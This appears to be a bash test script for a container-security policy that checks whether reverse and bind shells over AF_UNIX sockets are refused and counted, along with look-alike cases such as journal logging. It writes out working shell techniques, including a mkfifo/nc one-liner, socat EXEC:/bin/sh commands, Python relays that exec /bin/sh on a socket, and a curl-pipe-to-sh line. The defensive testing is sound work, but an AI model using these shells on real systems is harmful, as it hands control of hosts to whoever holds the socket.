# SPDX-License-Identifier: GPL-2.0-only
# Shells whose commands come over an AF_UNIX stream from a process outside the policy.
# shellcheck shell=bash disable=SC2016,SC2034,SC2154

python=/usr/bin/python3
cg=$(cgroup free)
there=$dir/there

# The other end: sends a command, and says what came back.
cat >peer.py <<'END'
import os, socket, sys, time
mode, path, patience = sys.argv[1], sys.argv[2], int(sys.argv[3])
if mode == "listen":
    if os.path.exists(path):
        os.unlink(path)
    s = socket.socket(socket.AF_UNIX)
    s.bind(path); s.listen(4); s.settimeout(patience)
    print("ready", flush=True)
    try:
        c = [s.accept()[0]]
        if "two" in sys.argv:
            c.append(s.accept()[0])
    except OSError:
        print("nothing", flush=True)
        sys.exit()
else:
    print("ready", flush=True)
    for i in range(10 * patience):
        try:
            c = [socket.socket(socket.AF_UNIX)]
            c[0].connect(path); break
        except OSError:
            time.sleep(0.1)
data = b""
try:
    c[0].sendall(b"echo GOT$((40+2))\n")
except OSError:
    pass
try:
    c[-1].settimeout(patience)
    while b"GOT42" not in data:
        new = c[-1].recv(4096)
        if not new:
            break
        data += new
except OSError:
    pass
print("owned" if b"GOT42" in data else "nothing", flush=True)
END

# meet MODE[:two] COMMAND...: in the cgroup; a peer outside listens or connects
patience=40
meet() {
	local mode=${1%:*} peer pid
	: >peer.out
	$python peer.py "$mode" "$there" $patience "${1#*:}" >peer.out 2>&1 &
	peer=$!
	poll grep -q ready peer.out
	timeout 300 /opt/csec/bin/cgexec "$cg" "${@:2}" </dev/null >inside.out 2>&1 &
	pid=$!
	wait $peer
	kill $pid 2>/dev/null
	echo 1 >"$cg/cgroup.kill" 2>/dev/null
	wait $pid 2>/dev/null
	cat peer.out
}

cat >relay.py <<'END'
import os, select, socket, subprocess, sys, time
path, what = sys.argv[1:]
def connect():
    s = socket.socket(socket.AF_UNIX)
    s.connect(path)
    return s
def relay(a, b):
    while True:
        for f in select.select([a, b], [], [])[0]:
            d = f.recv(4096)
            if not d:
                sys.exit()
            (b if f is a else a).sendall(d)
if what == "shell_first":
    a, b = socket.socketpair()
    subprocess.Popen(["/bin/sh"], stdin=b, stdout=b, stderr=b)
    time.sleep(1)
    relay(connect(), a)
elif what == "direct":
    s = connect()
    for i in (0, 1, 2): os.dup2(s.fileno(), i)
    os.execv("/bin/sh", ["sh"])
elif what == "read_u":
    s = connect()
    os.dup2(s.fileno(), 9)
    os.execv("/bin/bash", ["bash", "-c", 'while read -r -u 9 l; do eval "$l" >&9; done'])
elif what == "received":
    s = connect()
    b = bytearray(4096)
    while n := s.recv_into(b):
        s.sendall(subprocess.run(b[:n].decode(), shell=True, capture_output=True).stdout)
elif what == "split":
    # Commands come over one, answers go over another that is for writing only.
    commands, answers = connect(), connect()
    answers.shutdown(socket.SHUT_RD)
    p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=answers, bufsize=0)
    while d := commands.recv(4096):
        p.stdin.write(d)
elif what == "log":
    s = connect()
    s.shutdown(socket.SHUT_RD)
    for i in (1, 2): os.dup2(s.fileno(), i)
    os.execv("/bin/sh", ["sh", "-c", "echo GOT$((40+2))"])
elif what == "database":
    s = connect()
    print(subprocess.run("echo own-$((40+2))", shell=True, capture_output=True).stdout, flush=True)
elif what == "inside":
    # Both ends inside: nobody else gives commands.
    l = socket.socket(socket.AF_UNIX)
    l.bind(path); l.listen(1)
    c = connect()
    s = l.accept()[0]
    p = subprocess.Popen(["/bin/sh"], stdin=s, stdout=s)
    s.close(); l.close()
    c.sendall(b"echo own-$((40+2))\nexit\n")
    print(c.recv(100))
END

fifo="rm -f f; mkfifo f; cat f | /bin/sh -i 2>&1 | nc -U $there >f"
socat_exec="socat UNIX-CONNECT:$there EXEC:/bin/sh"
socat_pty="socat UNIX-CONNECT:$there EXEC:/bin/sh,pty,setsid,stderr"
bind="rm -f $there; socat UNIX-LISTEN:$there EXEC:/bin/sh"
attack() {
	case $1 in
	bind) meet connect /bin/bash -c "$bind" ;;
	fifo | socat_*) meet listen /bin/bash -c "${!1}" ;;
	split) meet listen:two $python $dir/relay.py $there split ;;
	*) meet listen $python $dir/relay.py $there $1 ;;
	esac
}
attacks=(fifo socat_exec socat_pty bind shell_first direct read_u received split)
for name in "${attacks[@]}"; do
	contains "without a policy: $name" owned attack $name
done

policy=peers
cg=$(cgroup deny)
govern peers "$cg" <<'END' || fail 'a policy is pushed'
shells: {reverse: deny, bind: deny, connect: deny}
END
# An attack that is refused is over at once; on a slow machine it begins late.
patience=20
refused() { echo $(($(counter peers reverse_shell) + $(counter peers bind_shell))); }
for name in "${attacks[@]}"; do
	before=$(refused)
	lacks "$name: is stopped" owned attack $name
	at_least "$name: is counted" $((before + 1)) "$(refused)"
done

# What looks alike
patience=40
before=$(refused)
contains 'a log of the host: a command may write to it' owned meet listen $python $dir/relay.py $there log
contains 'a database of the host: its client runs a command' nothing meet listen $python $dir/relay.py $there database
contains 'and that ran' own-42 cat inside.out
rm -f $there
contains 'between two of the container: a shell' own-42 in_cgroup "$cg" $python $dir/relay.py $there inside
rm -f $there
printf '#!/bin/sh\nread -r line\necho GOT42\n' >service
chmod 755 service
contains 'a service on an AF_UNIX socket: a script' owned meet connect /bin/bash -c \
	"rm -f $there; socat UNIX-LISTEN:$there EXEC:$dir/service"
contains 'a shell on a socket of its supervisor outside' own-42 $python -c '
import socket, subprocess, sys
a, b = socket.socketpair()
p = subprocess.Popen(["/opt/csec/bin/cgexec", sys.argv[1], "/bin/sh"], stdin=b, stdout=b)
b.close()
a.sendall(b"echo own-$((40+2))\nexit\n")
print(a.recv(100))
p.wait()' "$cg"

# What a service of systemd runs, with its output at the journal
mkdir -p www /run/systemd/journal
printf 'sleep 1\necho unit-$((40+2))\n' >www/setup.sh
$python -m http.server -d www --bind 127.0.0.1 4331 >/dev/null 2>&1 &
poll nc -z 127.0.0.1 4331
setup='curl -sN http://127.0.0.1:4331/setup.sh | sh; true'
contains 'an installer, its output on a socket from outside' unit-42 $python -c '
import socket, subprocess, sys
ours, theirs = socket.socketpair()
theirs.shutdown(socket.SHUT_RD)
p = subprocess.Popen(["/opt/csec/bin/cgexec", *sys.argv[1:]], stdin=subprocess.DEVNULL, stdout=theirs, stderr=theirs)
theirs.close()
while data := ours.recv(4096):
    print(data.decode())
p.wait()' "$cg" /bin/bash -c "$setup"
# Who starts it is in the cgroup when it connects.
cat >unit.py <<'END'
import os, socket, sys
s = socket.socket(socket.AF_UNIX)
s.connect(sys.argv[1])
s.shutdown(socket.SHUT_RD)
for i in (1, 2): os.dup2(s.fileno(), i)
s.close()
os.execv("/bin/bash", ["bash", "-c", sys.argv[2]])
END
journal='import os, socket, sys
if os.path.exists(sys.argv[1]):
    os.unlink(sys.argv[1])
s = socket.socket(socket.AF_UNIX)
s.bind(sys.argv[1])
if len(sys.argv) > 2:
    os.setuid(int(sys.argv[2]))
s.listen(1)
print("ready", flush=True)
c = s.accept()[0]
while data := c.recv(4096):
    print(data.decode(), flush=True)'
# unit PATH [UID]: somebody listens there
unit() {
	: >journal.out
	$python -c "$journal" "$@" >journal.out &
	local listens=$!
	poll grep -q ready journal.out
	in_cgroup "$cg" $python $dir/unit.py "$1" "$setup" </dev/null
	wait $listens
	cat journal.out
}
contains 'an installer, its output at the journal' unit-42 unit /run/systemd/journal/stdout
equals 'nothing of that was refused' "$before" "$(refused)"
lacks 'at who has the name of the journal, and is not root: is stopped' unit-42 unit /run/systemd/journal/stdout 65534
lacks 'at somebody else: is stopped' unit-42 unit $there
at_least 'both are counted' $((before + 2)) "$(refused)"
rm -r /run/systemd/journal
